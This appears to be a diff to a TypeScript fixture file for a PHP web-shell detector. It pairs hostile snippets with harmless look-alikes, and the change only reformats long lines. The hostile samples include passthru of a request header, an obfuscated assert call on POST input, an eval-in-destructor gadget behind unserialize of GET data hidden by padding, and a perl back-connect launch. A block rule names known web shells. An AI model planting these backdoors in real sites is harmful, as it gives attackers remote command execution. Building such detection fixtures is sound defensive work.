@@ -46,7 +46,9 @@ export const MARKS: readonly Technique[] = [
         `function run($c) { ob_start(); passthru($c); return ob_get_clean(); }\nfunction which($p) { return run('which ' . $p); }\nrun(which('perl') . ' /tmp/x ' . $_POST['host'] . ' &');`,
       ),
       php(`passthru(getenv('HTTP_ACCEPT_LANGUAGE'));`),
-      php(`$p = explode('.', 'on.ass.off.er.t'); array_intersect_ukey(array($_POST['k'] => 1), [1], $p[1].$p[3].$p[4]);`),
+      php(
+        `$p = explode('.', 'on.ass.off.er.t'); array_intersect_ukey(array($_POST['k'] => 1), [1], $p[1].$p[3].$p[4]);`,
+      ),
       php(
         `class Door { var $do = ''; function __destruct() { eval($this->do); } } /* ${'-'.repeat(900)} */ unserialize($_GET['o']);`,
       ),
@@ -86,7 +88,9 @@ export const MARKS: readonly Technique[] = [
     ],
     honest: [
       php(`foreach (array('exec', 'shell_exec') as $name) if (!function_exists($name)) $missing[] = $name;`),
-      php(`namespace Acme; class Mailer { function all($list) { foreach ($list as $to) mail($to, 'News', $this->text); } }`),
+      php(
+        `namespace Acme; class Mailer { function all($list) { foreach ($list as $to) mail($to, 'News', $this->text); } }`,
+      ),
       php(
         `add_action('init', 'update_list'); function update_list() { file_put_contents($cache, file_get_contents('https://example.com/list.txt')); }`,
       ),
@@ -117,7 +121,9 @@ export const MARKS: readonly Technique[] = [
       php(`namespace Acme; class Host { function name() { return exec('hostname'); } }`),
       php(`$server = stream_socket_server('tcp://127.0.0.1:8080'); $client = stream_socket_accept($server);`),
       php(`$logo = base64_decode('${base64('a picture that is long enough to be one')}'); echo strlen($logo);`),
-      php(`function pictures($d) { return glob($d . '/*.jpg'); }\nforeach (pictures(__DIR__) as $p) echo $p; echo intval($_GET['page']);`),
+      php(
+        `function pictures($d) { return glob($d . '/*.jpg'); }\nforeach (pictures(__DIR__) as $p) echo $p; echo intval($_GET['page']);`,
+      ),
       php(`$who = posix_getpwuid(posix_geteuid()); for ($i = 0; $i < 3; $i++) echo $who['name'];`),
       php(`function add_one(&$n) { $n++; }\n$n = 1; add_one($n); echo $n;`),
       php(`echo 'You come from ' . htmlspecialchars($_SERVER['REMOTE_ADDR']);`),
@@ -149,9 +155,15 @@ export const MARKS: readonly Technique[] = [
     honest: [
       php(`// Runs in a shell of the server, not in PHP itself.\n$h = fopen('php://stdout', 'w');`),
       php(`$text = 'How to tell that your site was hacked'; echo file_get_contents('help.html');`),
-      php(`if (preg_match('~/(alfa|b374k|c99|wso|c99shell)[.]php~i', $_SERVER['REQUEST_URI'])) { header('HTTP/1.1 403'); exit; } include('page.php');`),
-      php(`$manager = new FilesManager(fopen('list.csv', 'r')); // Signs in with WSO2 as well, in a shell by default\n`),
-      php(`class Tips { function all() { return array('A web shell gives away your server.', file_get_contents(__DIR__ . '/more.txt')); } }`),
+      php(
+        `if (preg_match('~/(alfa|b374k|c99|wso|c99shell)[.]php~i', $_SERVER['REQUEST_URI'])) { header('HTTP/1.1 403'); exit; } include('page.php');`,
+      ),
+      php(
+        `$manager = new FilesManager(fopen('list.csv', 'r')); // Signs in with WSO2 as well, in a shell by default\n`,
+      ),
+      php(
+        `class Tips { function all() { return array('A web shell gives away your server.', file_get_contents(__DIR__ . '/more.txt')); } }`,
+      ),
     ],
   },
 ]
